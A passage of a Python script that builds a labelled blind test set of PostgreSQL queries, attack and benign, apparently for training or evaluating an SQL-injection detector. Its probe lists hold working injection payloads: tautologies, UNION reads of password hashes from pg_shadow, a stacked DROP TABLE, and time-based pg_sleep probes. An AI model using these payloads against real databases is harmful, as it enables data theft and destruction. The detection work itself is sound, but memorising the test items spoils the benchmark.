            if obf in LIT_OBFS and not str_literals(base[2]):
                base = core_by_name[rnd.choice(["or_x_eq_x", "setting_int", "copy_to_program_nslookup", "update_is_admin"])]
            make_attack(t, base[0], base[1], base[2], rnd, obf)
        if ctx in ("str",):
            for tech, cname, core in rnd.sample(CONCAT, 2):
                pre = rnd.choice(PREFIXES_STR)
                payload = pre + core + rnd.choice(["", "x", "1"])
                sql, ok = check(t, payload)
                if not ok:
                    add(sql, "attack", tech, t["name"], payload, f"bx:{tech}:{cname}")
            # comment truncation: close + comment only
            for tl in rnd.sample(["--", "/*", ";--", "-- -"], 2):
                payload = rnd.choice(["guest", "q7", "root"]) + t["close"] + tl
                sql, ok = check(t, payload)
                if not ok:
                    add(sql, "attack", "comment_truncation", t["name"], payload, f"bx:comment_truncation:bare|close={t['close']} tail={tl}")
        if ctx == "num":
            for payload in rnd.sample(["1 AND 1=1", "1 OR 1=1", "2-1", "(SELECT 5)", "1;SELECT pg_sleep(4)", "10 UNION SELECT 1,2,3", "3 LIMIT 1", "(SELECT COUNT(*) FROM pg_user)", "5::int", "1e3 OR TRUE"], 5):
                sql, ok = check(t, payload)
                if not ok:
                    fam = ("stacked" if ";" in payload else "union_based" if "UNION" in payload else
                           "tautology" if "OR" in payload or "1=1" in payload else "numeric_expression")
                    add(sql, "attack", fam, t["name"], payload, f"bx:numeric_raw:{payload}")
        if ctx in ("col", "dir"):
            probes = ["(CASE WHEN (SELECT ascii(substr(current_user,1,1)))>100 THEN id ELSE title END)",
                      "(SELECT 1 FROM pg_sleep(2))", "id,(SELECT CAST(version() AS int))",
                      "1 LIMIT 1 UNION SELECT usename,passwd,NULL FROM pg_shadow--",
                      "id;SELECT pg_sleep(3)--", "(SELECT 1 WHERE 1=1/(SELECT 0))", "id DESC, (SELECT count(*) FROM generate_series(1,9000000))"]
            if ctx == "dir":
                probes = ["DESC,(SELECT 1 FROM pg_sleep(2))", "ASC;DROP TABLE players--", "DESC LIMIT 1 UNION SELECT NULL,passwd FROM pg_shadow--", "ASC,(CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)", "DESC NULLS FIRST--"]
            for payload in probes:
                sql, ok = check(t, payload)
                if not ok:
                    fam = ("time_based" if "sleep" in payload or "generate_series" in payload else "stacked" if ";" in payload else
                           "union_based" if "UNION" in payload else "comment_truncation" if payload.endswith("--") else "error_based" if "/(SELECT 0)" in payload or "version()" in payload else "boolean_blind")
                    add(sql, "attack", fam, t["name"], payload, f"bx:order_raw:{payload}")
        # ---- benign
        if ctx in ("str", "estr", "ident"):
            if ctx == "ident":
                for v in IDENT_BENIGN:
                    add_benign(t, "input_identifier", v)
            elif t["name"] in SLOT_BENIGN_OVERRIDE:
                fam, vals = SLOT_BENIGN_OVERRIDE[t["name"]]
                for v in vals:
                    add_benign(t, fam, v)
                for fam in rnd.sample(sorted(BENIGN_STR), 4):
                    add_benign(t, fam, rnd.choice(BENIGN_STR[fam]))
            else:
                fams = sorted(BENIGN_STR)
                for fam in fams:
                    for v in rnd.sample(BENIGN_STR[fam], min(2 if ctx != "estr" else 1, len(BENIGN_STR[fam]))):
                        add_benign(t, fam, v)
                if ctx == "estr":
                    for v in BENIGN_STR["input_regex"]:
                        add_benign(t, "input_regex", v)
            # escaped attack strings
            for tech, cname, core in rnd.sample(CORES, 6):
                prefix, close, tail = boundary(t, rnd)
                payload = f"{prefix}{close} {core} {tail or '--'}"
                add_benign(t, "escaped_attack_string", payload, variant_prefix=f"escaped:bx:{tech}:{cname}")
        elif ctx == "num":
            for v in NUM_BENIGN:
                add_benign(t, "input_numeric", v)
        elif ctx == "col":
            for v in COL_BENIGN:
                add_benign(t, "input_identifier", v)
        elif ctx == "dir":
            for v in DIR_BENIGN:
                add_benign(t, "input_identifier", v)
    for fam, name, sql in COMPLEX:
        add(sql, "benign", fam, "k_" + name, None, "complex:k_" + name)


COMPLEX = [
    ("complex_reporting", "rollup_grouping", "SELECT COALESCE(region, 'ALL') AS region, COALESCE(product_line, 'ALL') AS line, GROUPING(region, product_line) AS lvl, sum(amount) FILTER (WHERE refunded IS NOT TRUE) AS net, sum(amount) AS gross FROM sales WHERE sold_at >= date_trunc('quarter', now()) GROUP BY ROLLUP (region, product_line) HAVING sum(amount) > 0 ORDER BY lvl, region NULLS LAST"),
    ("complex_reporting", "cube_pct", "SELECT brand, color, count(*) AS n, round(100.0 * count(*) / sum(count(*)) OVER (), 2) AS pct FROM items GROUP BY CUBE (brand, color) ORDER BY n DESC NULLS LAST"),
    ("complex_reporting", "filter_union_kpi", "SELECT 'orders' AS kpi, count(*) FILTER (WHERE status = 'paid') AS paid, count(*) FILTER (WHERE status = 'failed') AS failed FROM orders WHERE placed_at > now() - interval '1 day' UNION ALL SELECT 'refunds', count(*) FILTER (WHERE approved), count(*) FILTER (WHERE NOT approved) FROM refunds WHERE created_at > now() - interval '1 day'"),
    ("complex_reporting", "percentile_mode", "SELECT department, percentile_disc(0.9) WITHIN GROUP (ORDER BY salary) AS p90, mode() WITHIN GROUP (ORDER BY title) AS common_title FROM staff GROUP BY department"),
    ("complex_search", "tsrank_headline", "SELECT id, ts_headline('english', body, q, 'StartSel=<mark>, StopSel=</mark>, MaxFragments=2') AS snippet, ts_rank_cd(search_vec, q, 32) AS rank FROM articles, websearch_to_tsquery('english', 'postgres -mysql \"full text\"') AS q WHERE search_vec @@ q ORDER BY rank DESC LIMIT 10"),
    ("complex_search", "trigram_similar", "SELECT name, similarity(name, 'jonh smiht') AS sim FROM people WHERE name % 'jonh smiht' ORDER BY name <-> 'jonh smiht' LIMIT 5"),
    ("complex_search", "like_escape_backslash", "SELECT id FROM files WHERE path LIKE 'reports!_2024!%%' ESCAPE '!' OR path SIMILAR TO '%(draft|final)_v[0-9]+%'"),
    ("complex_search", "regexp_matches_flags", "SELECT id, regexp_matches(body, '(\\w+)@(\\w+)\\.com', 'gi') FROM messages WHERE body ~* '@[a-z]+\\.com'"),
    ("complex_json", "jsonb_path_query", "SELECT id, jsonb_path_query(details, '$.items[*] ? (@.qty > $min && @.sku like_regex \"^AB\")', '{\"min\": 2}') AS item FROM orders WHERE details @? '$.items[*] ? (@.qty > 2)'"),
    ("complex_json", "jsonb_to_recordset", "SELECT r.* FROM jsonb_to_recordset('[{\"a\":1,\"b\":\"x\"},{\"a\":2,\"b\":\"y\"}]'::jsonb) AS r(a int, b text) WHERE r.a > 1"),
    ("complex_json", "json_table", "SELECT jt.* FROM orders o, JSON_TABLE(o.details, '$.items[*]' COLUMNS (sku text PATH '$.sku', qty int PATH '$.qty' DEFAULT 1 ON EMPTY)) AS jt WHERE o.id = 10"),
    ("complex_arrays_ranges", "array_overlap_unnest", "SELECT r.id, array_agg(DISTINCT t ORDER BY t) AS tags FROM recipes r CROSS JOIN LATERAL unnest(r.tags) AS t WHERE r.tags && ARRAY['vegan', 'quick']::text[] AND NOT r.tags @> ARRAY['nuts'] GROUP BY r.id"),
    ("complex_arrays_ranges", "tstzrange_overlap", "SELECT room_id FROM bookings WHERE during && tstzrange('2025-06-01 09:00+02', '2025-06-01 11:00+02', '[)') AND upper_inf(during) IS FALSE"),
    ("complex_arrays_ranges", "exclusion_constraint", "ALTER TABLE bookings ADD CONSTRAINT no_overlap EXCLUDE USING gist (room_id WITH =, during WITH &&)"),
    ("complex_arrays_ranges", "multirange_agg", "SELECT room_id, range_agg(during) AS busy FROM bookings WHERE lower(during) >= current_date GROUP BY room_id"),
    ("complex_geo", "postgis_knn", "SELECT id, name, ST_Distance(geom::geography, ST_MakePoint(-0.1276, 51.5072)::geography) AS meters FROM stores ORDER BY geom <-> ST_SetSRID(ST_MakePoint(-0.1276, 51.5072), 4326) LIMIT 5"),
    ("complex_geo", "geometric_builtin", "SELECT box '((0,0),(1,1))' && box '((0.5,0.5),(2,2))' AS overlaps, point '(1,2)' <-> point '(4,6)' AS dist, circle '<(0,0),5>' @> point '(3,3)' AS inside"),
    ("complex_ddl_migration", "generated_column", "ALTER TABLE parcels ADD COLUMN volume_cm3 numeric GENERATED ALWAYS AS (length_cm * width_cm * height_cm) STORED"),
    ("complex_ddl_migration", "tsvector_generated", "ALTER TABLE articles ADD COLUMN search_vec tsvector GENERATED ALWAYS AS (setweight(to_tsvector('english', coalesce(title, '')), 'A') || setweight(to_tsvector('english', coalesce(body, '')), 'B')) STORED"),
    ("complex_ddl_migration", "identity_table", "CREATE TABLE IF NOT EXISTS job_queue (id bigint GENERATED BY DEFAULT AS IDENTITY PRIMARY KEY, state text NOT NULL DEFAULT 'queued' CHECK (state IN ('queued', 'running', 'done', 'failed')), payload jsonb NOT NULL DEFAULT '{}'::jsonb, run_at timestamptz NOT NULL DEFAULT now())"),
    ("complex_ddl_migration", "partial_index_concurrently", "CREATE INDEX CONCURRENTLY IF NOT EXISTS job_queue_ready_idx ON job_queue (run_at) INCLUDE (payload) WHERE state = 'queued'"),
    ("complex_ddl_migration", "comment_on", "COMMENT ON COLUMN users.password_hash IS 'bcrypt hash; never select this column in reports -- see SEC-112'"),
    ("complex_ddl_migration", "create_procedure", "CREATE OR REPLACE PROCEDURE archive_customer(p_email text, p_hard boolean DEFAULT false) LANGUAGE plpgsql AS $proc$ BEGIN UPDATE customers SET archived_at = now() WHERE email = p_email; IF p_hard THEN DELETE FROM customers WHERE email = p_email; END IF; COMMIT; END $proc$"),
    ("complex_ddl_migration", "create_function_sql_body", "CREATE FUNCTION search_catalog(q text, lim int) RETURNS TABLE(id int, score real) LANGUAGE sql STABLE BEGIN ATOMIC SELECT id, ts_rank(search_vec, plainto_tsquery(q)) FROM catalog WHERE search_vec @@ plainto_tsquery(q) ORDER BY 2 DESC LIMIT lim; END"),
    ("complex_queue", "skip_locked_cte", "WITH next_job AS (SELECT id FROM job_queue WHERE state = 'queued' AND run_at <= now() ORDER BY run_at FOR UPDATE SKIP LOCKED LIMIT 10) UPDATE job_queue j SET state = 'running' FROM next_job WHERE j.id = next_job.id RETURNING j.id, j.payload"),
    ("complex_queue", "delete_returning_batch", "DELETE FROM job_queue WHERE id IN (SELECT id FROM job_queue WHERE state = 'done' AND run_at < now() - interval '30 days' LIMIT 5000) RETURNING id"),
    ("complex_queue", "listen", "LISTEN order_events"),
    ("complex_queue", "notify_payload", "NOTIFY order_events, '{\"id\": 42, \"op\": \"DELETE\", \"note\": \"it''s done; DROP nothing\"}'"),
    ("complex_queue", "pg_notify_json", "SELECT pg_notify('cache_invalidate', json_build_object('table', TG_TABLE_NAME, 'id', 7)::text)"),
    ("complex_session", "set_local_tz", "SET LOCAL TIME ZONE 'America/New_York'"),
    ("complex_session", "set_config_local", "SELECT set_config('app.tenant_id', '3f2a9c1e-0000-4000-8000-00000000abcd', true)"),
    ("complex_session", "prepare_stmt", "PREPARE get_invoice(text, int) AS SELECT id, total FROM invoices WHERE number = $1 AND fiscal_year = $2"),
    ("complex_session", "execute_stmt", "EXECUTE get_invoice('INV-2024-0007', 2024)"),
    ("complex_session", "deallocate", "DEALLOCATE PREPARE get_invoice"),
    ("complex_session", "call_proc", "CALL archive_customer('old.customer@example.com', p_hard => false)"),
    ("complex_session", "lock_timeout_tx", "BEGIN; SET LOCAL lock_timeout = '2s'; SELECT id FROM stock WHERE sku = 'AB-1' FOR UPDATE NOWAIT; COMMIT;"),
    ("complex_copy", "copy_csv_options", "COPY staging_contacts (email, full_name) FROM STDIN WITH (FORMAT csv, HEADER match, DELIMITER ';', QUOTE '\"', NULL '', FORCE_NULL (full_name))"),
    ("complex_copy", "copy_query_out", "COPY (SELECT id, email FROM users WHERE created_at > now() - interval '1 day' ORDER BY id) TO STDOUT WITH (FORMAT csv, HEADER)"),
    ("complex_copy", "copy_freeze", "COPY measurements FROM STDIN (FORMAT text, FREEZE true, ENCODING 'UTF8')"),
    ("complex_formatting", "to_char_formats", "SELECT to_char(now() AT TIME ZONE 'Asia/Tokyo', 'YYYY-MM-DD\"T\"HH24:MI:SS') AS jst, to_char(1234567.891, 'FM9G999G999D00') AS money, to_char(interval '1 day 3 hours', 'HH24:MI')"),
    ("complex_formatting", "fetch_with_ties", "SELECT name, score FROM players ORDER BY score DESC NULLS LAST FETCH FIRST 3 ROWS WITH TIES"),
    ("complex_formatting", "interval_math", "SELECT id FROM subscriptions WHERE renew_at BETWEEN now() AND now() + make_interval(days => 14) AND extract(epoch FROM renew_at - created_at) / 86400 > 30"),
    ("complex_recursive", "recursive_path_cycle", "WITH RECURSIVE tree(id, parent_id, name, path) AS (SELECT id, parent_id, name, ARRAY[id] FROM categories WHERE parent_id IS NULL UNION ALL SELECT c.id, c.parent_id, c.name, t.path || c.id FROM categories c JOIN tree t ON c.parent_id = t.id) CYCLE id SET is_cycle USING cycle_path SELECT id, name, array_length(path, 1) AS depth FROM tree WHERE NOT is_cycle ORDER BY path"),
    ("complex_recursive", "recursive_search_breadth", "WITH RECURSIVE org AS (SELECT id, manager_id, 0 AS lvl FROM employees WHERE manager_id IS NULL UNION ALL SELECT e.id, e.manager_id, o.lvl + 1 FROM employees e JOIN org o ON e.manager_id = o.id) SEARCH BREADTH FIRST BY id SET ordercol SELECT * FROM org ORDER BY ordercol"),
    ("complex_orm_generated", "knex_insert_returning", "insert into \"feedback\" (\"body\", \"created_at\", \"user_id\") values ('Great app -- but the \"select all\" button is broken; please fix', '2025-02-01T10:00:00.000Z', 17) returning \"id\""),
    ("complex_orm_generated", "jooq_select", "select \"public\".\"orders\".\"id\", \"public\".\"orders\".\"total\" from \"public\".\"orders\" where (\"public\".\"orders\".\"status\" in ($1, $2) and \"public\".\"orders\".\"total\" > $3) order by \"public\".\"orders\".\"id\" desc offset $4 rows fetch next $5 rows only"),
    ("complex_orm_generated", "diesel_upsert", "INSERT INTO \"prefs\" (\"user_id\", \"data\") VALUES ($1, $2) ON CONFLICT (\"user_id\") DO UPDATE SET \"data\" = \"excluded\".\"data\" RETURNING \"prefs\".\"user_id\", \"prefs\".\"data\""),
    ("complex_orm_generated", "ef_core_exists", "SELECT EXISTS (\n    SELECT 1\n    FROM \"Users\" AS u\n    WHERE u.\"Email\" = @__email_0 AND NOT (u.\"IsDeleted\"))"),
    ("complex_comments_hints", "block_comment_sql_words", "/* report: UNION of active users; DROP columns later -- ticket 88 */ SELECT id, email FROM users WHERE active"),
    ("complex_comments_hints", "trailing_line_comment_quote", "SELECT count(*) FROM orders WHERE status = 'paid' -- don't count 'refunded' OR 'void'"),
    ("complex_maintenance_admin", "vacuum_analyze_cols", "VACUUM (ANALYZE, VERBOSE, SKIP_LOCKED) job_queue (state, run_at)"),
    ("complex_maintenance_admin", "pg_cancel_idle", "SELECT pid, pg_cancel_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction' AND state_change < now() - interval '10 minutes' AND pid <> pg_backend_pid()"),
    ("complex_maintenance_admin", "reindex_concurrently", "REINDEX INDEX CONCURRENTLY job_queue_ready_idx"),
    ("complex_maintenance_admin", "sleep_in_maintenance", "SELECT pg_sleep(0.5), pg_try_advisory_lock(hashtext('nightly-rollup'))"),
    ("complex_plpgsql_body", "do_batch_update", "DO $migrate$ DECLARE n int; BEGIN LOOP UPDATE orders SET status = 'archived' WHERE id IN (SELECT id FROM orders WHERE status = 'closed' LIMIT 1000); GET DIAGNOSTICS n = ROW_COUNT; EXIT WHEN n = 0; COMMIT; END LOOP; END $migrate$"),
    ("complex_plpgsql_body", "trigger_notify_fn", "CREATE OR REPLACE FUNCTION notify_order_change() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_notify('order_events', json_build_object('op', TG_OP, 'id', NEW.id)::text); RETURN NEW; END $$"),
    ("complex_plpgsql_body", "execute_format_ident", "CREATE FUNCTION purge_partition(p text) RETURNS void LANGUAGE plpgsql AS $fn$ BEGIN EXECUTE format('DROP TABLE IF EXISTS %I', p); END $fn$"),
]


if __name__ == "__main__":
    main()
    for i, r in enumerate(rows):
        r["id"] = f"blind-{i:05d}"
    out = os.path.join(HERE, "blind.jsonl.gz")
    with gzip.GzipFile(out, "wb", mtime=0) as raw, io.TextIOWrapper(raw, encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps({k: r[k] for k in ("id", "sql", "label", "family", "template", "input", "variant")}, ensure_ascii=False) + "\n")
    import collections
    c = collections.Counter((r["label"], r["family"]) for r in rows)
    for k in sorted(c):
        print(k[0], k[1], c[k])
    print("total", len(rows), "attacks", sum(r["label"] == "attack" for r in rows))
